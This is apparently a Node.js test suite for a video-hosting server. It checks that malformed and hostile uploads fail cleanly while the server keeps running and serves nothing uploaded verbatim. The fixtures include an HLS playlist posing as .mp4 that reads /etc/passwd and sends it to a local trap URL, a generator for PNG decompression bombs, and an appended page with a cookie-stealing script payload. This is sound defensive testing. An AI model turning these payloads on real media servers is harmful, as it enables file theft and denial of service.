// Files that are not what they claim: each upload completes, its video ends `failed`
// with a reason the owner can read, and the server goes on serving everyone else. Polyglots
// (a playlist dressed as a video, a video carrying a web page) and decompression bombs (a
// picture that would decode to 400 megapixels, a few KB that decode to five hours) are
// refused before anything decodes them, and nothing an upload carries is ever served as is.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import zlib from 'node:zlib';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';

import {
  createTusUpload,
  ffmpeg,
  makeClip,
  playWithFfmpeg,
  serverWithCreator,
  uploadWithTus,
} from './support/server.mjs';

// Polls /api/health every 100 ms until stopped; collects anything but a 200.
function watchHealth(server) {
  const problems = [];
  let checks = 0;
  let stopped = false;
  const loop = (async () => {
    while (!stopped) {
      try {
        const res = await fetch(server.url('/api/health'), { signal: AbortSignal.timeout(5_000) });
        await res.arrayBuffer();
        if (res.status !== 200) problems.push(`HTTP ${res.status}`);
      } catch (error) {
        problems.push(String(error));
      }
      checks += 1;
      await sleep(100);
    }
  })();
  return {
    problems,
    async stop() {
      stopped = true;
      await loop;
      return checks;
    },
  };
}

test('hostile_files_end_failed_while_the_server_keeps_serving', { timeout: 150_000 }, async (t) => {
  const { harness, dataDir, server, token } = await serverWithCreator(t, { name: 'hostile' });
  const health = watchHealth(server);
  t.after(() => health.stop());

  const text = harness.path('notes.mp4');
  fs.writeFileSync(text, 'These are my notes, not a video.\n'.repeat(2000));

  const whole = await makeClip(harness.path('whole.mp4'), { width: 640, height: 360, seconds: 4 });
  const bytes = fs.readFileSync(whole);
  const truncated = harness.path('truncated.mp4');
  fs.writeFileSync(truncated, bytes.subarray(0, Math.floor(bytes.length / 2)));

  const hostile = [];
  for (const [name, file] of [
    ['text renamed .mp4', text],
    ['first half of an mp4', truncated],
  ]) {
    const { videoId } = await uploadWithTus(server, token, file, {
      filename: file.split('/').pop(),
      filetype: 'video/mp4',
      title: name,
    });
    assert.ok(videoId, `${name}: Marquee-Video-Id`);
    hostile.push({ name, videoId });
  }
  const empty = await createTusUpload(server, token, 0, { filename: 'empty.mp4', filetype: 'video/mp4' });
  assert.equal(empty.status, 201, `a 0-byte upload is created (and complete at once): ${empty.body}`);
  assert.ok(empty.videoId);
  hostile.push({ name: '0-byte file', videoId: empty.videoId });

  for (const { name, videoId } of hostile) {
    const video = await server.waitForStatus(videoId, token, 'failed', { timeoutMs: 60_000 });
    t.diagnostic(`${name}: ${video.failure_reason}`);
    assert.equal(typeof video.failure_reason, 'string', `${name}: failure_reason`);
    assert.ok(video.failure_reason.trim().length > 0, `${name}: failure_reason is empty`);
    assert.ok(!video.failure_reason.includes(dataDir), `${name}: the reason leaks a server path: ${video.failure_reason}`);
    assert.deepEqual(video.renditions ?? [], [], `${name}: a failed video has no renditions`);
  }

  // A proper clip uploaded after them is processed as usual.
  const good = await uploadWithTus(server, token, whole, {
    filename: 'whole.mp4',
    filetype: 'video/mp4',
    title: 'After the storm',
    visibility: 'public',
  });
  const ready = await server.waitForStatus(good.videoId, token, 'ready', { timeoutMs: 90_000 });
  assert.ok(ready.renditions.length >= 1);
  const playback = await server.api('GET', `/api/videos/${good.videoId}/playback`, { token });
  assert.equal(playback.status, 200);
  await playWithFfmpeg(server.url(playback.body.master_url));

  // Still failed: nothing retried them into another state meanwhile.
  for (const { name, videoId } of hostile) {
    assert.equal((await server.video(videoId, token)).status, 'failed', name);
  }

  const checks = await health.stop();
  assert.ok(checks >= 5, `only ${checks} health checks ran`);
  assert.deepEqual(health.problems, [], '/api/health answered 200 throughout');
  assert.ok(server.proc.running, `the server is still up\n${server.proc.log()}`);
});

// A PNG of WIDTH×HEIGHT black pixels: a few hundred KB that decode to WIDTH×HEIGHT bytes.
function pngBomb(file, width, height) {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc32 = (bytes) => {
    let c = 0xffffffff;
    for (const b of bytes) c = crcTable[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
  };
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth; colour type 0 (gray), no interlace
  const deflate = zlib.createDeflate({ level: 9 });
  const row = Buffer.alloc(width + 1);
  const pieces = [];
  deflate.on('data', (piece) => pieces.push(piece));
  for (let y = 0; y < height; y++) deflate.write(row);
  return new Promise((resolve) => {
    deflate.end(() => {
      const png = Buffer.concat([
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
        chunk('IHDR', header),
        chunk('IDAT', Buffer.concat(pieces)),
        chunk('IEND', Buffer.alloc(0)),
      ]);
      fs.writeFileSync(file, png);
      resolve(file);
    });
  });
}

test('polyglots_and_decompression_bombs_are_refused_and_nothing_uploaded_is_served_as_is', { timeout: 180_000 }, async (t) => {
  const { harness, dataDir, server, token } = await serverWithCreator(t, { name: 'polyglot' });

  // The 2017 ffmpeg exploit: an HLS playlist named like a video, whose "segment" reads a local
  // file and sends it to a server. A listener stands where it points, to see if anyone calls.
  const calls = [];
  const trap = http.createServer((req, res) => {
    calls.push(req.url);
    res.end('#EXTM3U\n');
  });
  await new Promise((resolve) => trap.listen(0, '127.0.0.1', resolve));
  t.after(() => trap.close());
  const trapUrl = `http://127.0.0.1:${trap.address().port}`;
  const playlist = harness.path('holiday.mp4');
  fs.writeFileSync(playlist, [
    '#EXTM3U', '#EXT-X-MEDIA-SEQUENCE:0', '#EXTINF:10.0,',
    `concat:${trapUrl}/leak.m3u8?|file:///etc/passwd`, '#EXTINF:10.0,', `${trapUrl}/segment.ts`, '#EXT-X-ENDLIST', '',
  ].join('\n'));

  const bomb = await pngBomb(harness.path('poster.png'), 20_000, 20_000);
  assert.ok(fs.statSync(bomb).size < 1_000_000, 'the picture bomb is small');
  // Five hours of 16×16 black at one frame a second: 240 KB, beyond the 4 h limit.
  const long = harness.path('long.mp4');
  await ffmpeg(['-f', 'lavfi', '-i', 'color=black:size=16x16:rate=1', '-t', '18000', '-c:v', 'libx264', '-preset',
                'ultrafast', '-pix_fmt', 'yuv420p', long]);
  // One frame 8208 pixels wide: beyond the 8192 a side Marquee decodes.
  const wide = harness.path('wide.mp4');
  await ffmpeg(['-f', 'lavfi', '-i', 'color=black:size=8208x16:rate=1', '-frames:v', '1', '-c:v', 'libx264', '-preset',
                'ultrafast', '-pix_fmt', 'yuv420p', wide]);

  const refused = [];
  for (const [name, file, reason] of [
    ['an HLS playlist named .mp4', playlist, /playlist|not a video|format/i],
    ['a PNG that decodes to 400 megapixels', bomb, /not a video|picture|dimension|too large|size/i],
    ['five hours in 240 KB', long, /long|hours|duration/i],
    ['8208 pixels wide', wide, /large|dimension|size|wide/i],
  ]) {
    const { videoId } = await uploadWithTus(server, token, file, { filename: file.split('/').pop(), title: name });
    refused.push({ name, videoId, reason });
  }
  for (const { name, videoId, reason } of refused) {
    const video = await server.waitForStatus(videoId, token, 'failed', { timeoutMs: 60_000 });
    t.diagnostic(`${name}: ${video.failure_reason}`);
    assert.match(video.failure_reason, reason, `${name}: ${video.failure_reason}`);
    assert.ok(!video.failure_reason.includes(dataDir), `${name}: the reason leaks a server path`);
  }
  assert.deepEqual(calls, [], 'nothing the playlist names was fetched');

  // A real video with a web page appended: it plays, but as Marquee's own encode. Nothing of
  // the page is in what is served.
  const clip = await makeClip(harness.path('clip.mp4'), { seconds: 2 });
  const page = '<html><body><script>alert(document.cookie)</script></body></html>';
  const polyglot = harness.path('clip-with-page.mp4');
  fs.writeFileSync(polyglot, Buffer.concat([fs.readFileSync(clip), Buffer.from(page)]));
  const { videoId } = await uploadWithTus(server, token, polyglot, { filename: 'clip.html', title: 'Polyglot', visibility: 'public' });
  await server.waitForStatus(videoId, token, 'ready', { timeoutMs: 90_000 });
  const playback = await server.api('GET', `/api/videos/${videoId}/playback`, { token });
  assert.equal(playback.status, 200);
  const served = [];
  const fetchText = async (url) => {
    const res = await fetch(url);
    assert.equal(res.status, 200, url);
    assert.doesNotMatch(res.headers.get('content-type') ?? '', /html/, `${url} is not served as a page`);
    const body = Buffer.from(await res.arrayBuffer());
    served.push(body);
    return body.toString('latin1');
  };
  const master = await fetchText(server.url(playback.body.master_url));
  const base = new URL(server.url(playback.body.master_url));
  for (const line of master.split('\n').filter((l) => l && !l.startsWith('#'))) {
    const media = await fetchText(new URL(line, base).href);
    const mediaUrl = new URL(line, base);
    for (const segment of media.split('\n').filter((l) => l && !l.startsWith('#')).slice(0, 2)) {
      await fetchText(new URL(segment, mediaUrl).href);
    }
    const init = media.match(/#EXT-X-MAP:URI="([^"]+)"/);
    if (init) await fetchText(new URL(init[1], mediaUrl).href);
  }
  assert.ok(served.length >= 3, `fetched ${served.length} files`);
  for (const body of served) assert.ok(!body.includes('<script>'), 'no served byte comes from the page');
});
